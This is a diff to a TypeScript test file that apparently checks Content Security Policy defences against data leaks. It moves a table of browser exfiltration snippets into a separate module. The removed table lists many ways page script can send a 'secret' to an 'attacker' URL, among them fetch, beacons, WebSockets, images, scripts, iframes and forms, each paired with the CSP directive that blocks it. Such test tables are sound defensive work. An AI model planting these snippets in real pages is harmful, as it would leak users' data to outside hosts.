@@ -3,53 +3,8 @@ import { createServer, defineTool } from "lutra/server";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { hasChromium, needsChromium } from "../chromium.ts";
 import { type Attack, createAttackServer } from "./attack-server.ts";
+import { requests } from "./leaks.ts";
 import { type HostPage, type Stage, startStage } from "./stage.ts";
-
-/** Requests to the attacker, and the directive that stops them. */
-const requests = {
-  fetch: ["fetch(attacker + '/?' + secret).catch(() => {})", "connect-src"],
-  xhr: [
-    "const xhr = new XMLHttpRequest(); xhr.open('GET', attacker + '/?' + secret); xhr.send();",
-    "connect-src",
-  ],
-  beacon: ["navigator.sendBeacon(attacker, secret)", "connect-src"],
-  web_socket: ["new WebSocket(attacker.replace('http', 'ws') + '/' + secret)", "connect-src"],
-  event_source: ["new EventSource(attacker + '/' + secret)", "connect-src"],
-  web_transport: [
-    "new WebTransport(attacker.replace('http', 'https')).ready.catch(() => {})",
-    "connect-src",
-  ],
-  ping: [
-    "addTo(document.body, 'a', { href: '#here', ping: attacker + '/' + secret }).click()",
-    "connect-src",
-  ],
-  image: ["new Image().src = attacker + '/' + secret", "img-src"],
-  icon: ["addTo(document.head, 'link', { rel: 'icon', href: attacker + '/' + secret })", "img-src"],
-  video: ["addTo(document.body, 'video', { src: attacker + '/' + secret })", "media-src"],
-  style: [
-    "addTo(document.head, 'style', { textContent: '@import url(' + attacker + ')' })",
-    "style-src-elem",
-  ],
-  font: ["new FontFace('x', 'url(' + attacker + ')').load().catch(() => {})", "font-src"],
-  script: ["addTo(document.head, 'script', { src: attacker + '/' + secret })", "script-src-elem"],
-  module: ["import(attacker + '/' + secret).catch(() => {})", "script-src-elem"],
-  frame: ["addTo(document.body, 'iframe', { src: attacker + '/' + secret })", "frame-src"],
-  object: ["addTo(document.body, 'object', { data: attacker + '/' + secret })", "object-src"],
-  embed: ["addTo(document.body, 'embed', { src: attacker + '/' + secret })", "object-src"],
-  prefetch: [
-    "addTo(document.head, 'link', { rel: 'prefetch', href: attacker + '/' + secret })",
-    "default-src",
-  ],
-  preload: [
-    "addTo(document.head, 'link', { rel: 'preload', as: 'image', href: attacker + '/' + secret })",
-    "img-src",
-  ],
-  base: ["addTo(document.head, 'base', { href: attacker + '/' + secret })", "base-uri"],
-  form: [
-    "addTo(document.body, 'form', { action: attacker + '/' + secret, method: 'post' }).submit()",
-    "form-action",
-  ],
-} as const;
 
 /** Navigations of the view itself, which take its data along. */
 const navigations = {
